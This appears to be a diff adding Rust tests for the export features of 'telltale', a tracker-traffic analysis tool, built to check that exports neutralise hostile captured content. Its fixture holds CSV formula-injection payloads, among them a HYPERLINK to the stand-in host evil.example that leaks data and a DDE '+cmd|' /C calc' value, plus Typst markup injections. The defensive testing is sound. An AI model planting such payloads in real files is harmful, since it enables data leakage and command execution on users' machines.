@@ -1,0 +1,489 @@
+//! Exports of real cases: the demo case and a hostile HAR whose URL and
+//! fields carry spreadsheet formulas, Typst markup and a Chinese canary.
+//! CSV cells are formula-safe, output is byte-identical for the same case
+//! and options, the PDF holds the notes, hashes and canary as text (checked
+//! with `pdftotext` when it is installed) and redaction hides the
+//! researcher's address.
+
+use crate::case_cli::telltale;
+use std::path::Path;
+use telltale::export::{ExportOptions, export_csv, export_json, export_pdf};
+use telltale::model::{AnnotationEdit, EventId, ExchangeId, Severity, Target};
+use telltale::store::{Case, EventFilter, ImportOptions, NoObserver};
+
+/// The Chinese canary typed on the device.
+const CANARY: &str = "紫色长颈鹿";
+const RESEARCHER: &str = "ana.researcher@example.org";
+const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak\",\"click\")";
+
+fn form_query(pairs: &[(&str, &str)]) -> String {
+    let encode = |s: &str| -> String {
+        s.bytes()
+            .map(|b| match b {
+                b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => char::from(b).to_string(),
+                _ => format!("%{b:02X}"),
+            })
+            .collect()
+    };
+    pairs
+        .iter()
+        .map(|(k, v)| format!("{}={}", encode(k), encode(v)))
+        .collect::<Vec<_>>()
+        .join("&")
+}
+
+fn har_entry(time: &str, url: &str) -> serde_json::Value {
+    serde_json::json!({
+        "startedDateTime": time,
+        "time": 10.0,
+        "request": {"method": "GET", "url": url, "httpVersion": "HTTP/1.1",
+            "headers": [{"name": "User-Agent", "value": "Mozilla/5.0 (Linux; Android 10) ExampleBrowser/12.1.3"}],
+            "queryString": [], "cookies": [], "headersSize": -1, "bodySize": 0},
+        "response": {"status": 200, "statusText": "OK", "httpVersion": "HTTP/1.1", "headers": [], "cookies": [],
+            "content": {"size": 0, "mimeType": "text/plain", "text": ""}, "redirectURL": "", "headersSize": -1, "bodySize": 0},
+        "cache": {}, "timings": {"send": 0, "wait": 10, "receive": 0},
+        "serverIPAddress": "142.250.185.78"
+    })
+}
+
+/// Two Google Analytics hits whose fields are hostile to spreadsheets and
+/// to Typst, with the canary and the researcher's address inside.
+fn hostile_har() -> Vec<u8> {
+    let ga = "https://www.google-analytics.com/collect?";
+    let title = format!("{CANARY} #panic() ]");
+    let page = format!("https://search.example.cn/s?wd={CANARY}&user={RESEARCHER}");
+    let first = form_query(&[
+        ("v", "1"),
+        ("tid", "UA-1234-1"),
+        ("cid", "555"),
+        ("t", "pageview"),
+        ("dl", HYPERLINK),
+        ("dt", &title),
+    ]);
+    let second = form_query(&[
+        ("v", "1"),
+        ("tid", "UA-1234-1"),
+        ("cid", "555"),
+        ("t", "event"),
+        ("ec", "+cmd|' /C calc'!A0"),
+        ("ea", "@SUM(1+1)"),
+        ("el", "-2+3"),
+        ("dl", &page),
+    ]);
+    let har = serde_json::json!({"log": {"version": "1.2", "creator": {"name": "telltale tests", "version": "1"}, "pages": [],
+        "entries": [har_entry("2021-03-01T09:00:00.000Z", &format!("{ga}{first}")),
+                    har_entry("2021-03-01T09:00:05.000Z", &format!("{ga}{second}"))]}});
+    serde_json::to_vec_pretty(&har).expect("HAR serialises")
+}
+
+/// The hostile HAR imported as an incognito session, both events
+/// annotated (notes that look like formulas and Typst code) and the canary saved.
+fn hostile_case() -> (Case, String) {
+    let mut case = Case::open_in_memory().expect("case");
+    let options = ImportOptions {
+        session: Some("hostile".into()),
+        app: Some("com.example.browser".into()),
+        mode: Some(telltale::model::Mode::Incognito),
+        ..ImportOptions::default()
+    };
+    let outcome = case
+        .import_bytes("hostile.har", None, &hostile_har(), &options, &mut NoObserver)
+        .expect("hostile HAR imports");
+    assert_eq!(outcome.events, 2);
+    let annotate = |case: &mut Case, id: i64, tags: &[&str], severity, note: &str| {
+        let edit = AnnotationEdit {
+            tags: Some(tags.iter().map(|t| (*t).to_string()).collect()),
+            severity: Some(severity),
+            note: Some(note.to_string()),
+        };
+        case.annotate_as(Target::Event(EventId(id)), &edit, "ana")
+            .expect("annotate");
+    };
+    let first_note = format!("Chinese canary {CANARY} sent in incognito; payload #panic() ] #eval(\"1\")");
+    annotate(&mut case, 1, &["=tag", "中文"], Severity::Finding, &first_note);
+    annotate(
+        &mut case,
+        2,
+        &[],
+        Severity::Notable,
+        &format!("@SUM(A1) seen by {RESEARCHER}"),
+    );
+    case.save_canaries(&[CANARY.to_string()]).expect("save canary");
+    (case, outcome.sha256)
+}
+
+fn demo_case() -> Case {
+    let mut case = Case::open_in_memory().expect("case");
+    case.import_demo().expect("demo");
+    case
+}
+
+fn read_csv(path: &Path) -> Vec<csv::StringRecord> {
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_path(path)
+        .expect("open CSV");
+    reader.records().collect::<Result<_, _>>().expect("valid CSV")
+}
+
+fn column(header: &csv::StringRecord, name: &str) -> usize {
+    header
+        .iter()
+        .position(|h| h == name)
+        .unwrap_or_else(|| panic!("no column {name}"))
+}
+
+#[test]
+fn csv_has_every_column_and_the_annotation() {
+    let mut case = demo_case();
+    let edit = AnnotationEdit {
+        tags: Some(vec!["canary".into(), "search".into()]),
+        severity: Some(Severity::Finding),
+        note: Some("the canary search leaves the phone".into()),
+    };
+    case.annotate(Target::Event(EventId(16)), &edit).expect("annotate");
+    let dir = tempfile::tempdir().expect("tempdir");
+    let out = dir.path().join("findings.csv");
+    let options = ExportOptions {
+        findings_only: true,
+        ..ExportOptions::default()
+    };
+    let summary = export_csv(&case, &options, &out).expect("export");
+    assert_eq!((summary.rows, summary.findings), (1, 1));
+    let records = read_csv(&out);
+    let header = &records[0];
+    assert_eq!(
+        header.iter().collect::<Vec<_>>(),
+        [
+            "time",
+            "session",
+            "mode",
+            "app",
+            "device",
+            "tracker",
+            "company",
+            "host",
+            "server_ip",
+            "event",
+            "key_field",
+            "decode_path",
+            "severity",
+            "tags",
+            "note",
+            "exchange_id",
+            "event_id",
+            "source_file",
+            "source_sha256"
+        ]
+    );
+    let row = &records[1];
+    let normal_sha = case.sessions().expect("sessions")[0].sources[0].sha256.clone();
+    let cell = |name| row.get(column(header, name)).unwrap_or_default().to_string();
+    assert_eq!(cell("session"), "normal");
+    assert_eq!(cell("mode"), "normal");
+    assert_eq!(cell("event_id"), "16");
+    assert_eq!(cell("event"), "search");
+    assert_eq!(cell("tracker"), "sensorsdata");
+    assert_eq!(cell("key_field"), "https://duckduckgo.com/?q=purple+giraffe+7391");
+    assert_eq!(cell("decode_path"), "form:data_list › base64 › gzip › json[0]");
+    assert_eq!(cell("severity"), "finding");
+    assert_eq!(cell("tags"), "canary; search");
+    assert_eq!(cell("note"), "the canary search leaves the phone");
+    assert_eq!(cell("source_file"), "normal.har");
+    assert_eq!(cell("source_sha256"), normal_sha);
+    assert_eq!(cell("device"), "Redmi Note 8");
+}
+
+#[test]
+fn csv_neutralises_formulas_from_captured_content() {
+    let (case, _) = hostile_case();
+    let dir = tempfile::tempdir().expect("tempdir");
+    let out = dir.path().join("hostile.csv");
+    export_csv(&case, &ExportOptions::default(), &out).expect("export");
+    let records = read_csv(&out);
+    let header = &records[0];
+    let first = &records[1];
+    assert_eq!(
+        first.get(column(header, "key_field")),
+        Some(format!("'{HYPERLINK}").as_str())
+    );
+    assert_eq!(first.get(column(header, "tags")), Some("'=tag; 中文"));
+    let second = &records[2];
+    assert_eq!(
+        second.get(column(header, "note")),
+        Some(format!("'@SUM(A1) seen by {RESEARCHER}").as_str())
+    );
+    for record in &records {
+        for cell in record {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "cell can run as a formula: {cell}"
+            );
+        }
+    }
+}
+
+#[test]
+fn csv_is_byte_identical_and_excel_flavour_has_bom_and_crlf() {
+    let (case, _) = hostile_case();
+    let dir = tempfile::tempdir().expect("tempdir");
+    let (a, b, excel) = (
+        dir.path().join("a.csv"),
+        dir.path().join("b.csv"),
+        dir.path().join("x.csv"),
+    );
+    let options = ExportOptions::default();
+    export_csv(&case, &options, &a).expect("export a");
+    export_csv(&case, &options, &b).expect("export b");
+    let bytes = std::fs::read(&a).expect("read a");
+    assert_eq!(bytes, std::fs::read(&b).expect("read b"));
+    assert!(!bytes.starts_with(b"\xEF\xBB\xBF"));
+    assert!(!bytes.contains(&b'\r'));
+    export_csv(&case, &ExportOptions { excel: true, ..options }, &excel).expect("export excel");
+    let text = std::fs::read(&excel).expect("read excel");
+    assert!(text.starts_with(b"\xEF\xBB\xBF"));
+    assert_eq!(
+        text.windows(2).filter(|w| w == b"\r\n").count(),
+        3,
+        "header and two rows end in CRLF"
+    );
+}
+
+#[test]
+fn csv_filters_by_session_mode_and_tracker() {
+    let case = demo_case();
+    let dir = tempfile::tempdir().expect("tempdir");
+    let out = dir.path().join("ga.csv");
+    let options = ExportOptions {
+        filter: EventFilter {
+            session: Some("incognito".into()),
+            tracker: Some("ga".into()),
+            ..EventFilter::default()
+        },
+        ..ExportOptions::default()
+    };
+    let summary = export_csv(&case, &options, &out).expect("export");
+    let expected = case.events(&options.filter).expect("events").len();
+    assert_eq!(summary.rows, expected);
+    assert_eq!(expected, 58, "the demo's incognito session sends 58 GA hits");
+    let records = read_csv(&out);
+    assert!(
+        records[1..]
+            .iter()
+            .all(|r| r.get(1) == Some("incognito") && r.get(5) == Some("ga"))
+    );
+}
+
+#[test]
+fn redaction_hides_the_researcher_but_keeps_hashes() {
+    let (case, sha256) = hostile_case();
+    let dir = tempfile::tempdir().expect("tempdir");
+    let (csv_out, json_out) = (dir.path().join("r.csv"), dir.path().join("r.json"));
+    let options = ExportOptions {
+        redact: vec![RESEARCHER.into()],
+        ..ExportOptions::default()
+    };
+    export_csv(&case, &options, &csv_out).expect("csv");
+    export_json(&case, &options, &json_out).expect("json");
+    for out in [&csv_out, &json_out] {
+        let text = std::fs::read_to_string(out).expect("read");
+        assert!(
+            !text.contains(RESEARCHER),
+            "{} still names the researcher",
+            out.display()
+        );
+        assert!(
+            !text.contains("ana.researcher%40example.org"),
+            "URL-encoded form survived"
+        );
+        assert!(text.contains("[redacted]"));
+        assert!(text.contains(&sha256), "hash of the original evidence file is kept");
+    }
+}
+
+#[test]
+fn json_findings_carry_events_layers_exchange_and_history() {
+    let mut case = demo_case();
+    let edit = AnnotationEdit {
+        severity: Some(Severity::Finding),
+        note: Some("whole batch".into()),
+        ..AnnotationEdit::default()
+    };
+    case.annotate(Target::Event(EventId(16)), &edit).expect("event");
+    let events = case.events(&EventFilter::default()).expect("events");
+    let batch = events[0].exchange_id;
+    let in_batch = events.iter().filter(|e| e.exchange_id == batch).count();
+    assert_eq!(in_batch, 4, "the demo's first Sensors Analytics batch holds 4 events");
+    case.annotate(Target::Exchange(ExchangeId(batch.0)), &edit)
+        .expect("exchange");
+    let dir = tempfile::tempdir().expect("tempdir");
+    let out = dir.path().join("findings.json");
+    let options = ExportOptions {
+        findings_only: true,
+        date: Some("2020-05-01".into()),
+        ..ExportOptions::default()
+    };
+    let summary = export_json(&case, &options, &out).expect("export");
+    assert_eq!(summary.findings, 2);
+    let json: serde_json::Value = serde_json::from_slice(&std::fs::read(&out).expect("read")).expect("JSON");
+    assert_eq!(json["format"], "telltale-findings/1");
+    assert_eq!(json["date"], "2020-05-01");
+    assert!(json.get("events").is_none(), "findings only");
+    let findings = json["findings"].as_array().expect("findings");
+    let batch_finding = &findings[0];
+    assert_eq!(batch_finding["annotation"]["target_kind"], "exchange");
+    assert_eq!(batch_finding["events"].as_array().map(Vec::len), Some(in_batch));
+    let event_finding = &findings[1];
+    assert_eq!(event_finding["annotation"]["target_id"], 16);
+    let event = &event_finding["events"][0];
+    assert_eq!(event["fields"]["properties.keyword"], "purple giraffe 7391");
+    assert_eq!(event["decode_path"], "form:data_list › base64 › gzip › json[0]");
+    let steps: Vec<&str> = event_finding["layers"]
+        .as_array()
+        .expect("layers")
+        .iter()
+        .filter_map(|l| l["step"].as_str())
+        .collect();
+    assert_eq!(steps, ["request-body", "form:data_list", "base64", "gzip", "json[0]"]);
+    assert!(
+        event_finding["exchange"]["request_line"]
+            .as_str()
+            .is_some_and(|l| l.starts_with("POST https://"))
+    );
+    let sha = case.sessions().expect("sessions")[0].sources[0].sha256.clone();
+    assert_eq!(event_finding["exchange"]["source_sha256"], sha.as_str());
+    assert_eq!(event_finding["annotation"]["history"][0]["action"], "create");
+}
+
+/// Text of a PDF through `pdftotext`, or `None` (with a note) when it is not installed.
+fn pdf_text(pdf: &Path) -> Option<String> {
+    match std::process::Command::new("pdftotext")
+        .arg("-layout")
+        .arg(pdf)
+        .arg("-")
+        .output()
+    {
+        Ok(out) if out.status.success() => Some(String::from_utf8_lossy(&out.stdout).into_owned()),
+        _ => {
+            eprintln!("skipping PDF text checks: pdftotext not installed (apt-get install -y poppler-utils)");
+            None
+        }
+    }
+}
+
+#[test]
+fn pdf_report_shows_notes_hashes_and_the_chinese_canary_without_running_payloads() {
+    let (case, sha256) = hostile_case();
+    let dir = tempfile::tempdir().expect("tempdir");
+    let out = dir.path().join("report.pdf");
+    let options = ExportOptions {
+        title: Some("Example Browser in incognito] #panic()".into()),
+        redact: vec![RESEARCHER.into()],
+        date: Some("2021-03-02".into()),
+        reproducible: true,
+        ..ExportOptions::default()
+    };
+    let summary = export_pdf(&case, &options, &out).expect("the report lays out despite hostile content");
+    assert_eq!(summary.findings, 2);
+    let bytes = std::fs::read(&out).expect("read");
+    assert!(bytes.starts_with(b"%PDF-"));
+    let Some(text) = pdf_text(&out) else { return };
+    assert!(
+        text.contains("Example Browser in incognito] #panic()"),
+        "title shown as text"
+    );
+    assert!(
+        text.contains("payload #panic() ] #eval(\"1\")"),
+        "note shown as text, not run"
+    );
+    assert!(text.contains("@SUM(A1) seen by [redacted]"));
+    assert!(text.contains(&sha256), "full SHA-256 of the evidence file");
+    assert!(text.contains("Redaction applied"));
+    assert!(!text.contains(RESEARCHER));
+    assert!(text.contains("Canary hits"));
+    assert!(text.contains("2021-03-02"));
+    assert!(text.contains("Page 1 of"));
+    if summary.warnings.iter().any(|w| w.contains("no font")) {
+        eprintln!("skipping the Chinese text check: no CJK font (apt-get install -y fonts-noto-cjk)");
+    } else {
+        assert!(text.contains(CANARY), "Chinese canary rendered as text");
+    }
+}
+
+#[test]
+fn pdf_is_byte_identical_when_reproducible() {
+    let (case, _) = hostile_case();
+    let dir = tempfile::tempdir().expect("tempdir");
+    let (a, b) = (dir.path().join("a.pdf"), dir.path().join("b.pdf"));
+    let options = ExportOptions {
+        reproducible: true,
+        findings_only: true,
+        ..ExportOptions::default()
+    };
+    export_pdf(&case, &options, &a).expect("a");
+    export_pdf(&case, &options, &b).expect("b");
+    assert_eq!(std::fs::read(&a).expect("a"), std::fs::read(&b).expect("b"));
+}
+
+#[test]
+fn cli_export_writes_all_three_and_fails_cleanly() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let case = dir.path().join("case.telltale");
+    let case = case.to_str().expect("utf-8");
+    assert!(telltale(&["demo", case]).status.success());
+    assert!(
+        telltale(&[
+            "annotate",
+            case,
+            "--event",
+            "16",
+            "--severity",
+            "finding",
+            "--note",
+            "canary"
+        ])
+        .status
+        .success()
+    );
+    let csv_out = dir.path().join("f.csv");
+    let pdf_out = dir.path().join("f.pdf");
+    let json_out = dir.path().join("f.json");
+    let out = telltale(&[
+        "export",
+        case,
+        "--csv",
+        csv_out.to_str().expect("utf-8"),
+        "--pdf",
+        pdf_out.to_str().expect("utf-8"),
+        "--json",
+        json_out.to_str().expect("utf-8"),
+        "--findings-only",
+        "--reproducible",
+    ]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(read_csv(&csv_out).len(), 2, "header and the one finding");
+    assert!(std::fs::read(&pdf_out).expect("pdf").starts_with(b"%PDF-"));
+
+    let missing_dir = dir.path().join("no such dir").join("f.csv");
+    let out = telltale(&["export", case, "--csv", missing_dir.to_str().expect("utf-8")]);
+    assert_eq!(out.status.code(), Some(1));
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(stderr.lines().count(), 1, "{stderr}");
+    assert!(stderr.contains("f.csv"), "{stderr}");
+    let bad_date = telltale(&[
+        "export",
+        case,
+        "--pdf",
+        pdf_out.to_str().expect("utf-8"),
+        "--date",
+        "May 1st",
+    ]);
+    assert_eq!(bad_date.status.code(), Some(1));
+    assert!(std::fs::read(&pdf_out).expect("old pdf kept").starts_with(b"%PDF-"));
+    let leftovers: Vec<_> = std::fs::read_dir(dir.path())
+        .expect("list")
+        .filter_map(Result::ok)
+        .filter(|e| e.file_name().to_string_lossy().ends_with(".tmp"))
+        .collect();
+    assert!(leftovers.is_empty(), "temporary files left: {leftovers:?}");
+}
